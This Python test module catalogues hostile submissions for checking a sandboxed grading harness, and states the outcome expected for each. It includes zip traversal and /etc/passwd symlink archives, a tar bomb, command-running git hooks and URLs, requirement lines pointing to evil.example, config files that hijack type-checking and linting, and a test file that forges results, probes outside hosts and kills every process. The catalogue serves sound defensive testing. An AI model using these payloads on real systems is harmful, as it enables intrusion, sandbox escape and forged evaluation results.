"""The catalogue of attacks: what each tries (threats are numbered as in docs/security.md), and how it has to end."""

from __future__ import annotations

import os
import shutil
import subprocess
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.submission import hostile

CATALOGUE = Path(__file__).with_name("catalogue")
SERVICE = frozenset({"alive", "greeting", "notes", "quotes", "echo"})
ALL_BUT_ALIVE = SERVICE - {"alive"}
CODE = frozenset({"types", "lint"})


@dataclass(frozen=True)
class Attack:
    """One submission that tries something.

    `loses` is what it loses of the checks of the service (and of the code, where `loses_code` is not None), None for
    any of them; `codes` are the exit codes that are right; `says` stands in what the user is told or in the record.
    `index` names the wheel that it gets from an index of the test; `prelude` is run before the command line.
    """

    name: str
    threats: tuple[int, ...]
    what: str
    make: Callable[[Path], Path | str]
    codes: tuple[int, ...] = (0,)
    loses: frozenset[str] | None = frozenset()
    loses_code: frozenset[str] | None = None
    says: str = ""
    arguments: tuple[str, ...] = ()
    index: bool = False
    prelude: str = ""


def honest(folder: Path) -> Path:
    """A copy of the submission that does what is asked."""
    shutil.copytree(CATALOGUE / "honest", folder)
    return folder


def code(name: str) -> Callable[[Path], Path]:
    """The honest submission with an attack of the catalogue in it, which begins when the app is imported."""

    def make(folder: Path) -> Path:
        honest(folder)
        shutil.copy(CATALOGUE / "attacks" / "raw_server.py", folder / "app")
        shutil.copy(CATALOGUE / "attacks" / f"{name}.py", folder / "app" / "extra.py")
        return folder

    return make


def laid(extra: dict[str, str]) -> Callable[[Path], Path]:
    """The honest submission with files laid over it, by path."""

    def make(folder: Path) -> Path:
        honest(folder)
        for name, text in extra.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        return folder

    return make


def bulk(folder: Path) -> Path:
    """As much as a submission may be, of bytes that no compression makes less."""
    honest(folder)
    for number in range(5):
        (folder / f"bulk-{number}.bin").write_bytes(os.urandom(9 * 1024**2))
    return folder


def archive(content: Callable[[], bytes], suffix: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder.with_suffix(suffix)
        path.write_bytes(content())
        return path

    return make


def bomb(folder: Path) -> Path:
    """A tar of 2 GiB of zeros, some MB large."""
    zeros = folder.parent / "zeros"
    with zeros.open("wb") as target:
        target.truncate(2 * 1024**3)
    path = folder.with_suffix(".tar.gz")
    with tarfile.open(path, "w:gz", compresslevel=1) as tar:
        tar.add(zeros, "app/zeros.py")
    zeros.unlink()
    return path


def repository(folder: Path) -> Path:
    """A git repository whose hooks, filters and monitor say when they are run."""
    honest(folder)
    proof = folder.parent / f"{folder.name}-proof"
    run = f"touch {proof}"
    (folder / ".gitattributes").write_text("*.py filter=evil\n")
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@example.org", "-C", str(folder)]
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True)
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "x"], check=True)
    for key in ("core.fsmonitor", "filter.evil.smudge", "filter.evil.process", "core.sshCommand", "core.pager"):
        subprocess.run([*git, "config", key, run], check=True)
    for hook in ("post-checkout", "reference-transaction", "post-index-change", "pre-commit"):
        path = folder / ".git" / "hooks" / hook
        path.write_text(f"#!/bin/sh\n{run}\n")
        path.chmod(0o755)
    return folder


def proof_of(folder: Path) -> Path:
    """The file that `repository` says to make."""
    return folder.parent / f"{folder.name}-proof"


def requires(*lines: str) -> Callable[[Path], Path]:
    return laid(
        {"requirements.txt": "\n".join(["fastapi", "uvicorn", "asyncpg", "httpx", "websockets", *lines]) + "\n"}
    )


_PLUGIN = (
    "print('PWNED by a plugin')\nopen('/tmp/pwned', 'w').close()\ndef plugin(version):\n    raise SystemExit('PWNED')\n"
)
_UNTYPED = "import time\n\n\nasync def wait(a, b):\n    time.sleep(a)\n    eval(b)\n" * 20

_TESTS = """
import os, signal, socket, subprocess

def test_that_forges():
    for process in ("1", str(os.getppid())):
        try:
            with open(f"/proc/{process}/fd/1", "w") as out:
                out.write('{"counts": {"passed": 999}, "coverage": {}, "faults": []}' + "[" * 100_000 + "\\n" * 10**6)
        except OSError:
            pass

def test_that_reaches_out():
    for host in ("172.17.0.1", "1.1.1.1"):
        try:
            socket.create_connection((host, 80), timeout=0.5)
        except OSError:
            continue
        os.write(2, b"REACHED")

def test_that_kills():
    subprocess.Popen(["sleep", "1000"], start_new_session=True)
    os.kill(-1, signal.SIGKILL)
"""

ATTACKS = (
    Attack("zip-traversal", (1,), "a zip that climbs out", archive(lambda: hostile.zipped("../../evil.py"), ".zip"),
           (2,), says="evil.py"),
    Attack("tar-device", (1,), "a tar with a device",
           archive(lambda: hostile.tarred("app/x", kind=tarfile.BLKTYPE), ".tar"), (2,), says="app/x"),
    Attack("tar-link", (1,), "a tar with a link to /etc/passwd",
           archive(lambda: hostile.linked(tarfile.SYMTYPE, "/etc/passwd"), ".tar"), (2,), says="app/l"),
    Attack("bomb", (2,), "a tar of 2 GiB in some MB", bomb, (2,), says="512 MiB"),
    Attack("bulk", (2,), "45 MB of noise", bulk),
    Attack("colliding-names", (3,), "one name twice", archive(lambda: hostile.zipped("app/x.py", "app/X.py"), ".zip"),
           (2,), says="x.py"),
    Attack("obeyed-files", (3, 13), "conftest.py, pytest.ini, sitecustomize.py, httpx.py, Dockerfile, .pth",
           laid({name: "raise SystemExit('PWNED')\n" for name in (
               "conftest.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "tests/conftest.py")} | {
               "pytest.ini": "[pytest]\naddopts = --co\n", "tox.ini": "[pytest]\naddopts = --co\n",
               "Dockerfile": "FROM scratch\nRUN PWNED\n", ".dockerignore": "*\n", ".env": "DATABASE_URL=PWNED\n"})),
    Attack("git-hooks", (4,), "a repository with hooks and filters", repository, arguments=("--ref", "main")),
    Attack("git-ext", (4,), "a URL that runs a command", lambda _: "ext::sh -c touch% /tmp/pwned", (2,)),
    Attack("git-option", (4,), "a URL that is an option", lambda _: "--upload-pack=touch /tmp/pwned", (2,)),
    Attack("requirement-option", (6,), "another index", requires("--index-url https://evil.example/simple"), (3,), None,
           says="requirements.txt:6"),
    Attack("requirement-outside", (6,), "a file outside", requires("-r ../../../etc/passwd"), (3,), None,
           says="requirements.txt:6"),
    Attack("requirement-url", (5, 6), "a package from git", requires("evil @ git+https://evil.example/x"), (3,), None,
           says="requirements.txt:6"),
    Attack("sdist", (5,), "a package without a wheel, whose build runs code", requires("docopt==0.6.2"), (3,), None,
           says="docopt"),
    Attack("giant-wheel", (7,), "a wheel of 1 GB (the limit lowered to 300 MB)", requires("giant"), (3,), None,
           says="too large", index=True,
           prelude="import harness.runtime.docker.environment as e; e._MAX_MB = 300; e._LOOK_S = 0.5;"),
    Attack("pth-wheel", (8, 17), "a wheel that runs at each start of the interpreter", requires("pthy"), index=True),
    Attack("mypy-config", (9, 10), "a mypy plugin, stubs, a cache",
           laid({"mypy.ini": "[mypy]\nplugins = ./evil.py\nignore_errors = True\n", "evil.py": _PLUGIN,
                 "setup.cfg": "[mypy]\nplugins = evil.py\n", "app/main.pyi": "app: object\n",
                 ".mypy_cache/missing_stubs": "x", "app/bad.py": "# mypy: ignore-errors\n" + _UNTYPED}),
           loses_code=CODE),
    Attack("ruff-config", (11, 12), "ruff told to look away",
           laid({"ruff.toml": 'extend = "/etc/passwd"\nexclude = ["*"]\ncache-dir = "/tmp/pwned"\n',
                 ".gitignore": "*.py\n",
                 "app/bad.py": "# ruff: noqa\n" + _UNTYPED}),
           loses_code=CODE),
    Attack("never-listens", (14,), "never listens", code("never_listens"), (3,), None),
    Attack("never-answers", (14,), "accepts and never answers", code("never_answers"), (3,), None),
    Attack("crashes", (14,), "crashes again and again", code("crashes_at_the_fifth"), (0, 3), None),
    Attack("detaches", (14,), "leaves processes of its own session", code("detaches")),
    Attack("ignores-sigterm", (14,), "doesn't end when told to", code("ignores_sigterm")),
    Attack("zombies", (14,), "children that nobody waits for", code("zombies")),
    Attack("fork-bomb", (15,), "a fork bomb", code("fork_bomb"), (0, 3), None),
    Attack("memory", (15,), "fills the memory", code("memory_fill"), (0, 3), None),
    Attack("disk", (15,), "fills each disk and its inodes", code("disk_fill"), (0, 3), None),
    Attack("descriptors", (15,), "opens all files that it may", code("descriptors"), (0, 3), None),
    Attack("busy", (15,), "spins on every core", code("busy"), (0, 3), None),
    Attack("log-flood", (16, 30), "floods the log, with terminal codes", code("log_flood"), (0, 3), None),
    Attack("egress", (17,), "tries the host, the Internet, metadata, DNS, sockets of engines", code("egress")),
    Attack("escape", (18,), "tries mounts, namespaces, devices, /proc and /sys", code("escape")),
    Attack("drip-body", (19,), "a body, a byte a second", code("drips_a_body"), loses=ALL_BUT_ALIVE),
    Attack("drip-headers", (19,), "headers, a line a second", code("drips_headers"), loses=ALL_BUT_ALIVE),
    Attack("gzip-bomb", (20,), "256 MiB in some hundred bytes", code("gzip_bomb"), loses=ALL_BUT_ALIVE),
    Attack("endless-body", (21,), "a body without end", code("endless_body"), loses=ALL_BUT_ALIVE),
    Attack("endless-headers", (21,), "headers without end", code("endless_headers"), loses=ALL_BUT_ALIVE),
    Attack("endless-1xx", (21,), "interim answers without end", code("endless_1xx"), loses=ALL_BUT_ALIVE),
    Attack("redirects", (21, 17), "redirects to the host", code("redirects_away"), loses=ALL_BUT_ALIVE),
    Attack("lengths", (21,), "wrong lengths, versions, bytes", code("lies_about_length"), loses=ALL_BUT_ALIVE),
    Attack("json", (21,), "deep JSON, NaN, broken UTF-8", code("broken_json"), loses=ALL_BUT_ALIVE),
    Attack("web-socket", (22,), "giant frames, endless fragments, pings", code("web_socket"), loses=ALL_BUT_ALIVE),
    Attack("reads-hidden", (24,), "looks for the checks in files and processes", code("reads_the_hidden")),
    Attack("forges", (25, 26), "forges results, squats ports, calls the stub", code("forges"), loses=ALL_BUT_ALIVE),
    Attack("own-tests", (13, 15, 26), "tests that forge, reach out and kill whatever they can",
           laid({"tests/test_evil.py": _TESTS})),
    Attack("surrogates", (30,), "half a character in a route and in what a test says",
           laid({"tests/test_half.py": "def test_half():\n    assert False, '\\ud800'\n",
                 "app/extra.py": "from fastapi import APIRouter\n\nrouter = APIRouter()\n\n\n"
                 "@router.get('/\\ud800')\nasync def half(a: str = '\\udfff'):\n    open('\\ud800')\n"}),
           says="1 test"),
    Attack("database", (27,), "tries to own PostgreSQL", code("takes_the_database"), loses=frozenset({"notes"})),
    Attack("script", (29, 30), "markup and terminal codes in every answer", code("says_script"),
           loses=frozenset({"greeting", "notes", "quotes"})),
)  # fmt: skip
